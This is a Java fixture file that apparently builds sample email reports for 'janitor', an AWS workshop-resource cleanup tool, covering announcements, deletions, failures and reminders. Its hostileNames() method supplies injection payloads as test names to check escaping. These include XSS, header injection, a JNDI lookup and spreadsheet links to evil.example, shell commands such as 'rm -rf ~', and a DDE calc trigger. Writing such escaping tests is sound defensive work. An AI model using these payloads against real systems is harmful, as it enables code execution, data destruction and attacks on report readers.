package janitor.report;

import janitor.aws.Calls;
import janitor.aws.Clients;
import janitor.kind.Kinds;
import janitor.kind.Options;
import janitor.plan.LiftProtection;
import janitor.plan.Verdict;
import janitor.report.Report.Mode;
import janitor.report.Report.Notice;
import janitor.report.Report.Occasion;
import janitor.report.Report.Row;
import janitor.resource.Arn;
import janitor.resource.Fault;
import janitor.resource.Reach;
import janitor.resource.Resource;
import janitor.resource.Tags;
import janitor.resource.Unread;
import janitor.sweep.Outcome;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/// GoldenNights made up for the golden mails: each a report as the janitor would make it.
public final class GoldenNights {
  private GoldenNights() {}

  static final Instant NOW = Instant.parse("2026-10-19T03:04:00Z");

  /// As the kinds themselves say it.
  public static final Stakes STAKES =
      Stakes.of(
          Kinds.all(new Clients(new Calls(), _ -> {}), Options.looking("111122223333")),
          LiftProtection.COGNITO);

  private static final String ACCOUNT = "111122223333";
  private static final String REGION = "eu-west-1";
  private static final String PREFIX = "arn:aws:";

  /// All golden nights by name, in the order in which the README tells of them.
  public static Map<String, Report> all() {
    var all = new LinkedHashMap<String, Report>();
    all.put(
        "empty-night",
        report(Mode.DELETE, List.of())
            .withSelfRemoval("one more night has to find nothing first", 61));
    all.put("first-night", firstNight());
    all.put("stack", stack());
    all.put("announcement-3", announcement(3));
    all.put("announcement-132", announcement(132));
    all.put("announcement-4000", announcement(4_000));
    all.put("big-clean-up", bigCleanUp());
    all.put("failures", failures());
    all.put("last-mail", lastMail());
    all.put("hostile-names", hostileNames());
    all.put("nothing-tagged", nothingTagged());
    all.put("refusal", refusal());
    all.put("dry-run", dryRun());
    all.put("reminder", reminder());
    all.put("second-mail", failures().with(Occasion.SUPPLEMENT));
    all.put("not-everybody-told", notEverybodyTold());
    all.put("other-partitions", otherPartitions());
    return all;
  }

  private static Report firstNight() {
    var rows = new ArrayList<Row>();
    var due = NOW.minus(Duration.ofDays(2));
    var unannounced = new Verdict.Unannounced(Optional.of(due), Verdict.Unannounced.UNNAMED);
    rows.add(announced(table("student-records", 9), unannounced));
    rows.add(announced(function("student-api", 9), unannounced));
    rows.add(announced(function("enrol-student", 9), unannounced));
    rows.add(announced(bucket("student-uploads-7f3a", 9), unannounced));
    rows.add(announced(restApi("student-portal", "a1b2c3d4e5", 9), unannounced));
    rows.add(announced(role("student-api-role", 9), unannounced));
    rows.add(
        announced(
            userPool("students", 5),
            new Verdict.TooYoung(
                Optional.of(NOW.plus(Duration.ofDays(2))),
                "by its time to live it is not due yet")));
    rows.add(
        announced(
            resource(
                    "AWS::Lambda::LayerVersion",
                    "lambda",
                    "layer:student-commons:3",
                    "student-commons:3",
                    9)
                .parent(function("student-api", 9).build().arn()),
            unannounced));
    rows.add(
        row(
            table("class-of-2025", 400).tags(tags("janitor:keep", "true")),
            new Verdict.Kept("it carries the tag janitor:keep"),
            withheld("it carries the tag janitor:keep")));
    rows.add(
        row(
            bucket("slides", 3).tags(tags("janitor:expires-at", "2026-12-24")),
            new Verdict.TooYoung(
                Optional.of(Instant.parse("2026-12-25T00:00:00Z")),
                "by its tag janitor:expires-at it is not due yet"),
            withheld("by its tag janitor:expires-at it is not due yet")));
    return report(Mode.ANNOUNCE, rows);
  }

  /// A workshop that was deployed as one stack: no command may tag that.
  private static Report stack() {
    var due = NOW.minus(Duration.ofDays(2));
    var whole =
        Resource.of(
                "AWS::CloudFormation::Stack",
                Arn.of(PREFIX + "cloudformation:eu-west-1:" + ACCOUNT + ":stack/lab/0a1b"),
                REGION)
            .name("lab")
            .createdAt(NOW.minus(Duration.ofDays(9)));
    var owner = whole.build().arn();
    var member =
        new Verdict.Owned(
            Optional.of(owner),
            Optional.of(due),
            "it goes with CloudFormation Stack lab as a whole");
    return report(
        Mode.ANNOUNCE,
        List.of(
            announced(
                whole, new Verdict.Unannounced(Optional.of(due), Verdict.Unannounced.UNNAMED)),
            announced(table("lab-records", 9).owner(owner), member),
            announced(function("lab-api", 9).owner(owner), member),
            row(
                Resource.of(
                        "AWS::CloudFormation::Stack",
                        Arn.of(PREFIX + "cloudformation:eu-west-1:" + ACCOUNT + ":stack/kept/2c3d"),
                        REGION)
                    .name("kept")
                    .createdAt(NOW.minus(Duration.ofDays(9)))
                    .tags(tags("janitor:keep", "true")),
                new Verdict.Kept("it carries the tag janitor:keep"),
                withheld("it carries the tag janitor:keep"))));
  }

  /// A workshop of so many things, most of them of one stack: every sixth holds data.
  private static Report announcement(int count) {
    var rows = new ArrayList<Row>();
    var stacks = List.of("student-system", "exams", "portal");
    for (int i = 1; i <= count; i++) {
      var resource = sort(i);
      if (i % 7 != 0) {
        var stack = stacks.get(i % 5 == 0 ? 1 : i % 11 == 0 ? 2 : 0);
        resource.tags(
            Tags.of(
                Map.of(
                    "workshop",
                    "student-system",
                    Resource.STACK_ID_TAG,
                    PREFIX
                        + "cloudformation:eu-west-1:"
                        + ACCOUNT
                        + ":stack/"
                        + stack
                        + "/0a1b2c3d")));
      }
      var due = NOW.minus(Duration.ofDays(2));
      rows.add(
          announced(
              resource,
              i % 10 == 0
                  ? new Verdict.TooYoung(
                      Optional.of(NOW.plus(Duration.ofHours(30 + i % 24))),
                      "by its time to live it is not due yet")
                  : new Verdict.Unannounced(Optional.of(due), Verdict.Unannounced.UNNAMED)));
    }
    if (count > 10) {
      rows.add(
          row(
              table("class-of-2025", 400).tags(tags("janitor:keep", "true")),
              new Verdict.Kept("it carries the tag janitor:keep"),
              withheld("it carries the tag janitor:keep")));
      for (int i = 1; i <= 3; i++) {
        var unknown = new Verdict.Untouchable("the janitor does not know this type of resource");
        rows.add(
            row(
                resource("ec2:vpc", "ec2", "vpc/vpc-0%d".formatted(i), "vpc-0%d".formatted(i), 9),
                unknown,
                withheld(unknown.reason())));
      }
    }
    return copy(report(Mode.ANNOUNCE, rows), "student-system", Optional.empty(), List.of());
  }

  /// What is announced of several owners, as their tags say, with what strangers wrote there.
  static Report owned() {
    var due = NOW.minus(Duration.ofDays(2));
    var unannounced = new Verdict.Unannounced(Optional.of(due), Verdict.Unannounced.UNNAMED);
    var function = function("anna-api", 9).tags(tags("owner", "anna@example.org"));
    return report(
        Mode.ANNOUNCE,
        List.of(
            announced(
                table("anna-records", 9).tags(tags("owner", "anna@Example.org")), unannounced),
            announced(function, unannounced),
            announced(
                resource(
                        "AWS::Lambda::LayerVersion",
                        "lambda",
                        "layer:anna-commons:3",
                        "anna-commons:3",
                        9)
                    .parent(function.build().arn()),
                unannounced),
            announced(
                bucket("ben-uploads", 9).tags(tags("owner", "ben@lab.example.org")), unannounced),
            announced(bucket("nobodys-uploads", 9), unannounced),
            row(
                table("ben-kept", 400)
                    .tags(Tags.of(Map.of("janitor:keep", "true", "owner", "ben@lab.example.org"))),
                new Verdict.Kept("it carries the tag janitor:keep"),
                withheld("it carries the tag janitor:keep"))));
  }

  /// One thing whose owner's tag says that.
  static Report ownedBy(String owner) {
    var due = NOW.minus(Duration.ofDays(2));
    return report(
        Mode.ANNOUNCE,
        List.of(
            announced(
                table("records", 9).tags(tags("owner", owner)),
                new Verdict.Unannounced(Optional.of(due), Verdict.Unannounced.UNNAMED))));
  }

  private static Resource.Builder sort(int i) {
    var name = "student-%03d".formatted(i);
    return switch (i % 24) {
      case 1 -> table(name + "-records", 9).holds("about 1,204 items, 3.2 MB");
      case 2 -> bucket(name + "-uploads-7f3a", 9);
      case 3 -> userPool("eu-west-1_%09d".formatted(i), name + "-users", 9).holds("about 31 users");
      case 4 ->
          resource(
              "AWS::SecretsManager::Secret",
              "secretsmanager",
              "secret:" + name + "-AbCdEf",
              name + "-key",
              9);
      case 5 -> resource("AWS::KMS::Key", "kms", "key/0a1b-" + i, name + "-key", 9);
      case 6 -> restApi(name + "-portal", "api%07d".formatted(i), 9);
      case 7 -> resource("AWS::ECR::Repository", "ecr", "repository/" + name, name, 9);
      case 8, 9 -> rule(name + "-enrolled", 9);
      case 10, 11, 12 -> role(name + "-role", 9);
      case 13 -> resource("AWS::Personalize::Campaign", "personalize", "campaign/" + name, name, 9);
      case 14 -> resource("AWS::SQS::Queue", "sqs", name + "-mails", name + "-mails", 9);
      case 15 ->
          resource(
                  "AWS::Logs::LogGroup",
                  "logs",
                  "log-group:/aws/lambda/" + name,
                  "/aws/lambda/" + name,
                  9)
              .holds("48 kB");
      default -> function(name + "-api", 9);
    };
  }

  private static Report bigCleanUp() {
    var rows = new ArrayList<Row>();
    for (int i = 1; i <= 22; i++) {
      rows.add(gone(rule("on-enrolment-%02d".formatted(i), 8), 1));
    }
    for (int i = 1; i <= 34; i++) {
      rows.add(gone(function("student-%02d-api".formatted(i), 8), 2));
    }
    for (int i = 1; i <= 12; i++) {
      rows.add(gone(table("student-%02d-records".formatted(i), 8), 3));
    }
    for (int i = 1; i <= 9; i++) {
      rows.add(gone(bucket("student-%02d-uploads".formatted(i), 8), 3));
    }
    for (int i = 1; i <= 14; i++) {
      rows.add(gone(role("student-%02d-role".formatted(i), 8), 4));
    }
    for (int i = 1; i <= 3; i++) {
      rows.add(
          row(
              restApi("portal-%d".formatted(i), "api%07d".formatted(i), 8),
              expired(),
              new Outcome.Requested("AWS allows one DeleteRestApi every 30 s"),
              3));
    }
    for (int i = 1; i <= 17; i++) {
      var due = NOW.plus(Duration.ofDays(4)).plus(Duration.ofHours(i));
      rows.add(
          row(
              table("late-%02d-records".formatted(i), 2),
              new Verdict.TooYoung(Optional.of(due), "by its time to live it is not due yet"),
              withheld("by its time to live it is not due yet")));
    }
    for (int i = 1; i <= 5; i++) {
      rows.add(
          new Row(
              table("soon-%02d-records".formatted(i), 6).build(),
              new Verdict.TooYoung(
                  Optional.of(NOW.plus(Duration.ofHours(20 + i))),
                  "by its time to live it is not due yet"),
              withheld("by its time to live it is not due yet"),
              0,
              Duration.ZERO,
              Notice.EARLIER));
    }
    rows.add(
        row(
            resource(
                "AWS::Logs::LogGroup",
                "logs",
                "log-group:/aws/lambda/legacy",
                "/aws/lambda/legacy",
                8),
            new Verdict.Owned(
                Optional.empty(),
                Optional.of(NOW.minus(Duration.ofDays(1))),
                "it belongs to CloudFormation Stack platform, which is not tagged for this"
                    + " workshop"),
            withheld(
                "it belongs to CloudFormation Stack platform, which is not tagged for this"
                    + " workshop")));
    rows.add(
        row(
            resource("AWS::SES::EmailIdentity", "ses", "identity/example.org", "example.org", 90),
            new Verdict.Untouchable("the janitor's mails come from it"),
            withheld("the janitor's mails come from it")));
    rows.add(
        row(
            undated("AWS::SNS::Topic", "sns", "grades", "grades"),
            new Verdict.AgeUnknown("AWS does not tell its age and the janitor has just met it"),
            withheld("AWS does not tell its age and the janitor has just met it")));
    rows.add(
        row(
            role("shared-role", 8),
            expired(),
            withheld("it waits for Lambda Function legacy, which stays")));
    return report(Mode.DELETE, rows);
  }

  private static Report failures() {
    var rows = new ArrayList<Row>();
    rows.add(
        row(
            table("student-records", 9),
            expired(),
            new Outcome.Failed(
                "the janitor's role may not do dynamodb:DeleteTable; AWS says:"
                    + " AccessDeniedException: User:"
                    + " arn:aws:sts::111122223333:assumed-role/janitor-Role-1X/janitor is not"
                    + " authorized to perform: dynamodb:DeleteTable on resource:"
                    + " arn:aws:dynamodb:eu-west-1:111122223333:table/student-records because no"
                    + " identity-based policy allows the dynamodb:DeleteTable action",
                "Allow the janitor's role the action dynamodb:DeleteTable.",
                false,
                Optional.of("dynamodb:DeleteTable"),
                Optional.empty()),
            2));
    rows.add(
        row(
            Resource.of(
                    "AWS::IAM::ManagedPolicy",
                    Arn.of(PREFIX + "iam::" + ACCOUNT + ":policy/student-access"),
                    "us-east-1")
                .name("student-access")
                .createdAt(NOW.minus(Duration.ofDays(9))),
            expired(),
            new Outcome.Failed(
                "something else still uses it; AWS says: DeleteConflict: Cannot delete a policy"
                    + " attached to entities: arn:aws:iam::111122223333:role/teacher",
                "Find what AWS names in this message and delete it, or give both the tag"
                    + " janitor:keep.",
                true),
            3));
    rows.add(
        row(
            userPool("students", 9),
            expired(),
            new Outcome.Failed(
                "a protection forbids it; AWS says: InvalidParameterException: The user pool cannot"
                    + " be deleted because deletion protection is activated.",
                "Lift the protection by hand, or let the janitor: LiftProtection. To keep it for"
                    + " good, give it the tag janitor:keep.",
                false),
            3));
    rows.add(
        row(
            table("exams", 9),
            expired(),
            new Outcome.Failed(
                "AWS refused, in words that the janitor does not know; AWS says:"
                    + " ValidationException: Table exams of 111122223333 is held by"
                    + " 'student-vault'",
                "Read what AWS says, and delete it by hand if it stays. The janitor should know"
                    + " this answer: the block at the end of this report can be pasted into an"
                    + " issue.",
                false,
                Optional.empty(),
                Optional.of(
                    new Fault.Answer(
                        "dynamodb",
                        "DeleteTable",
                        "ValidationException",
                        400,
                        "Table exams of 111122223333 is held by 'student-vault'"))),
            3));
    rows.add(gone(function("student-api", 9), 1));
    rows.add(gone(function("enrol-student", 9), 1));
    rows.add(
        row(
            table("grades", 9),
            new Verdict.Protected(
                Optional.of(NOW.minus(Duration.ofDays(2))), "its deletion protection is on"),
            withheld("its deletion protection is on")));
    rows.add(
        row(
            role("student-api-role", 9),
            expired(),
            withheld("it waits for IAM ManagedPolicy student-access, which stays")));
    return report(
        Mode.DELETE,
        rows,
        List.of(
            new Unread(
                "AWS::Personalize::Campaign in eu-west-1",
                List.of(),
                "AccessDeniedException: User:"
                    + " arn:aws:sts::111122223333:assumed-role/janitor-Role-1X/janitor is not"
                    + " authorized to perform: personalize:ListCampaigns",
                false,
                Optional.of("personalize:ListCampaigns")),
            new Unread(
                "AWS::S3::Bucket in eu-central-1",
                List.of(),
                "the network: connect timed out",
                true,
                Optional.empty()),
            new Unread(
                "the tags of AWS::S3::Bucket in eu-west-1",
                List.of(Arn.of("arn:aws:s3:::shut")),
                "AccessDenied: User: arn:aws:sts::111122223333:assumed-role/janitor/x is not"
                    + " authorized to perform: s3:GetBucketTagging on resource:"
                    + " \"arn:aws:s3:::shut\" with an explicit deny in a resource-based policy",
                false,
                Optional.empty(),
                "Sign in as the account's root user, whom no bucket policy can shut out: aws s3api"
                    + " delete-bucket-policy --bucket shut",
                Optional.empty())));
  }

  /// What stands beside the mail did not work.
  private static Report notEverybodyTold() {
    var due = NOW.minus(Duration.ofDays(2));
    return report(
            Mode.ANNOUNCE,
            List.of(
                announced(
                    table("student-records", 9),
                    new Verdict.Unannounced(Optional.of(due), Verdict.Unannounced.UNNAMED))))
        .withUntold(
            List.of(
                new Unread(
                    "the topic arn:aws:sns:eu-west-1:111122223333:told",
                    List.of(),
                    "nobody has confirmed a subscription of it, so nobody reads it",
                    false,
                    Optional.empty(),
                    "Follow the link in the message with which SNS asks each subscriber",
                    Optional.empty()),
                new Unread(
                    "the event \"Workshop Janitor Night\" on the default bus of EventBridge",
                    List.of(),
                    "AccessDeniedException: not authorized to perform: events:PutEvents on"
                        + " resource: arn:aws:events:eu-west-1:111122223333:event-bus/default",
                    false,
                    Optional.of("events:PutEvents"))));
  }

  private static Report lastMail() {
    return report(
            Mode.DELETE,
            List.of(
                row(
                    table("class-of-2025", 400).tags(tags("janitor:keep", "true")),
                    new Verdict.Kept("it carries the tag janitor:keep"),
                    withheld("it carries the tag janitor:keep"))))
        .with(
            new Report.Farewell(
                "arn:aws:cloudformation:eu-west-1:111122223333:stack/janitor/0f1e2d3c",
                Optional.of(Arn.of("arn:aws:iam::111122223333:role/janitor-DeleterRole-1ABCDEF"))));
  }

  /// Everything that a stranger can write into a name, a tag or an error.
  private static Report hostileNames() {
    var rows = new ArrayList<Row>();
    var html = "<script>alert(1)</script><img src=x onerror=alert(1)>";
    var names =
        List.of(
            html,
            "\"><a href='https://evil.example/'>click</a>",
            "line\r\nBcc: everybody@example.org\r\n\r\nbody",
            "\u202egnp.exe\u202c\u200b\u2066hidden\u2069",
            "${jndi:ldap://evil.example/a}${7*7}{{subject}}",
            "'; rm -rf ~; echo '$(reboot)`reboot`",
            "=HYPERLINK(\"https://evil.example/\"; =1+1)",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "x".repeat(1024));
    var due = NOW.minus(Duration.ofDays(2));
    for (var name : names) {
      rows.add(
          announced(
              resource("AWS::DynamoDB::Table", "dynamodb", "table/" + name, name, 9),
              new Verdict.Unannounced(Optional.of(due), Verdict.Unannounced.UNNAMED)));
    }
    rows.add(
        announced(
            role("-rf --no-preserve-root", 9),
            new Verdict.Unannounced(Optional.of(due), Verdict.Unannounced.UNNAMED)));
    rows.add(
        row(
            resource("AWS::Evil" + html, "evil", html, html, 1),
            new Verdict.Untouchable("it carries workshop=" + html),
            withheld("it carries workshop=" + html)));
    rows.add(
        row(
            table("poisoned", 9),
            expired(),
            new Outcome.Failed(
                "AWS refused; AWS says: ValidationException: " + html + "\r\nSet-Cookie: a=b",
                "Read what AWS says, and delete it by hand if it stays.",
                false),
            1));
    return report(
        Mode.DELETE,
        rows,
        List.of(
            new Unread(
                html,
                List.of(),
                "AccessDenied: " + html + "\r\n.\r\nQUIT\u2028{{night}}",
                false,
                Optional.empty())));
  }

  private static Report nothingTagged() {
    var report =
        report(Mode.DELETE, List.of()).withSelfRemoval("it has not deleted anything yet", 61);
    return copy(
        report,
        "serverles-students",
        Optional.empty(),
        List.of("serverless-students", "Serverless-Students", "<b>event-storming</b>"));
  }

  private static Report refusal() {
    var rows = new ArrayList<Row>();
    for (int i = 1; i <= 64; i++) {
      rows.add(
          row(
              function("student-%03d".formatted(i), 30),
              expired(),
              withheld("more is due than MaxDeletions allows")));
    }
    return copy(
        report(Mode.DELETE, rows),
        "serverless-students",
        Optional.of(
            "64 resources are due, more than MaxDeletions (50) allows in one night: nothing was"
                + " deleted. If they are all meant to go, raise MaxDeletions above 64."),
        List.of());
  }

  /// Nothing has changed for a week, and this is why.
  private static Report reminder() {
    var rows = new ArrayList<Row>();
    var due = Optional.of(NOW.minus(Duration.ofDays(30)));
    var whole =
        Resource.of(
                "AWS::CloudFormation::Stack",
                Arn.of(PREFIX + "cloudformation:eu-west-1:" + ACCOUNT + ":stack/lab/0a1b"),
                REGION)
            .name("lab")
            .createdAt(NOW.minus(Duration.ofDays(40)))
            .build();
    var isProtected = new Verdict.Protected(due, "its termination protection is on");
    rows.add(
        new Row(whole, isProtected, withheld(isProtected.reason()), 0, Duration.ZERO, Notice.NONE));
    var member =
        new Verdict.Owned(
            Optional.of(whole.arn()), due, "it goes with CloudFormation Stack lab as a whole");
    rows.add(row(table("lab-records", 40), member, withheld(member.reason())));
    rows.add(
        row(
            role("shared-role", 40),
            new Verdict.Expired(due, "by its time to live it is due"),
            withheld("it is still used by Lambda Function legacy, which stays")));
    rows.add(
        row(
            bucket("grades", 40).tags(tags("janitor:expires-at", "next spring")),
            new Verdict.AgeUnknown("its tag janitor:expires-at cannot be read: next spring"),
            withheld("its tag janitor:expires-at cannot be read: next spring")));
    for (int i = 1; i <= 7; i++) {
      var unknown = new Verdict.Untouchable("the janitor does not know this type of resource");
      rows.add(
          row(
              resource(
                  "ec2:instance", "ec2", "instance/i-0%d".formatted(i), "i-0%d".formatted(i), 40),
              unknown,
              withheld(unknown.reason())));
    }
    rows.add(
        row(
            table("class-of-2025", 400).tags(tags("janitor:keep", "true")),
            new Verdict.Kept("it carries the tag janitor:keep"),
            withheld("it carries the tag janitor:keep")));
    rows.add(
        row(
            resource("AWS::SES::EmailIdentity", "ses", "identity/example.org", "example.org", 90),
            new Verdict.Untouchable("the janitor's mails come from it"),
            withheld("the janitor's mails come from it")));
    var ghosts =
        List.of(
            Arn.of(PREFIX + "sqs:eu-west-1:" + ACCOUNT + ":enrolments"),
            Arn.of(PREFIX + "s3:::student-uploads-7f3a"));
    return report(Mode.DELETE, rows, List.of(), ghosts).with(Occasion.REMINDER);
  }

  private static Report dryRun() {
    return report(
        Mode.DRY_RUN,
        List.of(
            row(function("student-api", 9), expired(), new Outcome.WouldDelete("wave 1"), 1),
            row(table("student-records", 9), expired(), new Outcome.WouldDelete("wave 2"), 2),
            row(
                table("class-of-2025", 400).tags(tags("janitor:keep", "true")),
                new Verdict.Kept("it carries the tag janitor:keep"),
                withheld("it carries the tag janitor:keep"))));
  }

  /// China and GovCloud have consoles of their own.
  private static Report otherPartitions() {
    var due = new Verdict.Unannounced(Optional.empty(), Verdict.Unannounced.UNNAMED);
    return report(
        Mode.ANNOUNCE,
        List.of(
            announced(
                Resource.of(
                        "AWS::DynamoDB::Table",
                        Arn.of("arn:aws-cn:dynamodb:cn-north-1:111122223333:table/students"),
                        "cn-north-1")
                    .name("students"),
                due),
            announced(
                Resource.of(
                        "AWS::SQS::Queue",
                        Arn.of("arn:aws-us-gov:sqs:us-gov-west-1:111122223333:grades"),
                        "us-gov-west-1")
                    .name("grades"),
                due),
            announced(
                Resource.of(
                        "AWS::IAM::Role",
                        Arn.of("arn:aws-us-gov:iam::111122223333:role/path/student"),
                        "us-gov-west-1")
                    .name("student"),
                due)));
  }

  private static Verdict expired() {
    return new Verdict.Expired(
        Optional.of(NOW.minus(Duration.ofDays(1))), "by its time to live it is due");
  }

  private static Outcome withheld(String reason) {
    return new Outcome.Withheld(reason);
  }

  private static Row announced(Resource.Builder resource, Verdict verdict) {
    return new Row(
        resource.build(), verdict, withheld(verdict.reason()), 0, Duration.ZERO, Notice.NEW);
  }

  private static Row gone(Resource.Builder resource, int wave) {
    return row(resource, expired(), new Outcome.Gone(""), wave);
  }

  private static Row row(Resource.Builder resource, Verdict verdict, Outcome outcome) {
    return row(resource, verdict, outcome, 0);
  }

  private static Row row(Resource.Builder resource, Verdict verdict, Outcome outcome, int wave) {
    return new Row(resource.build(), verdict, outcome, wave, Duration.ofSeconds(2), Notice.NONE);
  }

  private static Resource.Builder table(String name, int days) {
    return resource("AWS::DynamoDB::Table", "dynamodb", "table/" + name, name, days);
  }

  private static Resource.Builder function(String name, int days) {
    return resource("AWS::Lambda::Function", "lambda", "function:" + name, name, days);
  }

  private static Resource.Builder rule(String name, int days) {
    return resource("AWS::Events::Rule", "events", "rule/" + name, name, days);
  }

  private static Resource.Builder userPool(String name, int days) {
    return userPool("eu-west-1_Ab12Cd34E", name, days);
  }

  private static Resource.Builder userPool(String id, String name, int days) {
    return resource("AWS::Cognito::UserPool", "cognito-idp", "userpool/" + id, name, days);
  }

  private static Resource.Builder bucket(String name, int days) {
    return Resource.of("AWS::S3::Bucket", Arn.of(PREFIX + "s3:::" + name), REGION)
        .name(name)
        .createdAt(NOW.minus(Duration.ofDays(days)));
  }

  private static Resource.Builder restApi(String name, String id, int days) {
    return Resource.of(
            "AWS::ApiGateway::RestApi",
            Arn.of(PREFIX + "apigateway:eu-west-1::/restapis/" + id),
            REGION)
        .name(name)
        .createdAt(NOW.minus(Duration.ofDays(days)));
  }

  private static Resource.Builder role(String name, int days) {
    return Resource.of(
            "AWS::IAM::Role", Arn.of(PREFIX + "iam::" + ACCOUNT + ":role/" + name), "us-east-1")
        .name(name)
        .createdAt(NOW.minus(Duration.ofDays(days)));
  }

  private static Resource.Builder resource(
      String type, String service, String id, String name, int days) {
    return undated(type, service, id, name).createdAt(NOW.minus(Duration.ofDays(days)));
  }

  private static Resource.Builder undated(String type, String service, String id, String name) {
    return Resource.of(type, new Arn("aws", service, REGION, ACCOUNT, id), REGION).name(name);
  }

  private static Tags tags(String key, String value) {
    return Tags.of(Map.of("workshop", "serverless-students", key, value));
  }

  private static Report report(Mode mode, List<Row> rows) {
    return report(mode, rows, List.of());
  }

  private static Report report(Mode mode, List<Row> rows, List<Unread> unread) {
    return report(mode, rows, unread, List.of());
  }

  private static Report report(Mode mode, List<Row> rows, List<Unread> unread, List<Arn> ghosts) {
    return new Report(
        new Report.About("serverless-students", "workshop", ACCOUNT, List.of(REGION), Reach.ALL),
        new Report.Course(
            "night-2026-10-19T03:00:00Z", mode, Instant.parse("2026-10-19T03:00:00Z"), NOW, 2, 412),
        rows,
        new Report.Gaps(unread, ghosts, Optional.empty(), List.of()),
        new Report.Telling(Duration.ofDays(3), Duration.ofHours(20), Occasion.NIGHT),
        new Report.Next("something of the workshop is left", Optional.empty(), Optional.empty()));
  }

  private static Report copy(
      Report report, String workshop, Optional<String> refusal, List<String> tagValues) {
    var about = report.about();
    return new Report(
        new Report.About(workshop, about.tagKey(), about.account(), about.regions(), about.reach()),
        report.course(),
        report.rows(),
        new Report.Gaps(report.gaps().unread(), report.gaps().ghosts(), refusal, tagValues),
        report.telling(),
        report.next());
  }
}
